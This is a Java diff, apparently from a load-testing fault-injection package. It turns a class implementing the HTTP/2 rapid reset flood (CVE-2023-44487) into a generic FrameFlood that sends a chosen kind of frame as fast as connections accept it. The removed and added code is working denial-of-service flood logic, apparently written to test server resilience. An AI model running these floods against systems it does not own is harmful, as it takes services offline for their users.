@@ -3,41 +3,39 @@ package io.trilane.loadtest.faults.http2;
 import io.netty.buffer.ByteBuf;
 import io.netty.channel.ChannelHandlerContext;
 import io.netty.channel.SimpleChannelInboundHandler;
-import io.netty.handler.codec.http2.DefaultHttp2FrameWriter;
-import io.netty.handler.codec.http2.Http2CodecUtil;
-import io.netty.handler.codec.http2.Http2Error;
-import io.netty.handler.codec.http2.Http2FrameWriter;
 import io.netty.handler.codec.http2.Http2Headers;
-import io.netty.handler.codec.http2.Http2Settings;
 import io.trilane.client.rpc.Target;
 import java.util.concurrent.atomic.LongAdder;
+import org.jspecify.annotations.Nullable;
 
-/// Opens streams and resets them at once, as fast as the connections take it: rapid reset,
-/// CVE-2023-44487. A connection that the server cuts is opened anew.
-public final class ResetFlood implements AutoCloseable {
+/// Sends frames of one kind as fast as the connections take them. A connection that the server cuts
+/// is opened anew.
+public final class FrameFlood implements AutoCloseable {
   private static final int AT_A_TIME = 100;
 
-  private final LongAdder resets = new LongAdder();
+  private final LongAdder sent = new LongAdder();
+  private final FloodFrames kind;
   private final Http2Headers headers;
   private final RawConnections connections;
 
-  private ResetFlood(Target target) {
+  private FrameFlood(Target target, FloodFrames kind) {
+    this.kind = kind;
     headers = GrpcHeaders.of(target, "trilane.v1.WorkService/Perform");
     connections = new RawConnections(target, Pour::new);
   }
 
   /// Starts it; it goes on until it is closed.
-  public static ResetFlood start(Target target, int connections) {
-    var flood = new ResetFlood(target);
+  public static FrameFlood start(Target target, int connections, FloodFrames kind) {
+    var flood = new FrameFlood(target, kind);
     for (int i = 0; i < connections; i++) {
       flood.connections.keepOpen();
     }
     return flood;
   }
 
-  /// How many streams have been opened and reset so far.
-  public long resets() {
-    return resets.sum();
+  /// How many frames, or streams opened and reset, have been sent so far.
+  public long sent() {
+    return sent.sum();
   }
 
   /// How many connections the server has cut so far.
@@ -52,22 +50,24 @@ public final class ResetFlood implements AutoCloseable {
 
   /// One connection. Belongs to its event loop.
   private final class Pour extends SimpleChannelInboundHandler<ByteBuf> {
-    private final Http2FrameWriter frames = new DefaultHttp2FrameWriter();
-    private int stream = 1;
+    /// Null until the connection stands.
+    private @Nullable FrameStream frames;
+
+    private int stream = 3;
 
     @Override
     public void channelActive(ChannelHandlerContext connection) {
-      var _ = connection.write(Http2CodecUtil.connectionPrefaceBuf());
-      var _ =
-          frames.writeSettings(
-              connection, Http2Settings.defaultSettings(), connection.newPromise());
-      pour(connection);
+      var begun = new FrameStream(connection, headers);
+      frames = begun;
+      begun.hello();
+      kind.begin(begun);
+      pour(connection, begun);
     }
 
     @Override
     public void channelWritabilityChanged(ChannelHandlerContext connection) {
-      if (connection.channel().isWritable()) {
-        pour(connection);
+      if (frames != null && connection.channel().isWritable()) {
+        pour(connection, frames);
       }
     }
 
@@ -81,20 +81,19 @@ public final class ResetFlood implements AutoCloseable {
 
     @Override
     public void channelInactive(ChannelHandlerContext connection) {
-      frames.close();
+      if (frames != null) {
+        frames.close();
+      }
     }
 
-    private void pour(ChannelHandlerContext connection) {
+    private void pour(ChannelHandlerContext connection, FrameStream begun) {
       for (int i = 0; i < AT_A_TIME && connection.channel().isWritable(); i++, stream += 2) {
-        var _ = frames.writeHeaders(connection, stream, headers, 0, false, connection.newPromise());
-        var _ =
-            frames.writeRstStream(
-                connection, stream, Http2Error.CANCEL.code(), connection.newPromise());
-        resets.increment();
+        kind.next(begun, stream);
+        sent.increment();
       }
       connection.flush();
       if (connection.channel().isWritable() && connection.channel().isActive()) {
-        connection.executor().execute(() -> pour(connection));
+        connection.executor().execute(() -> pour(connection, begun));
       }
     }
   }
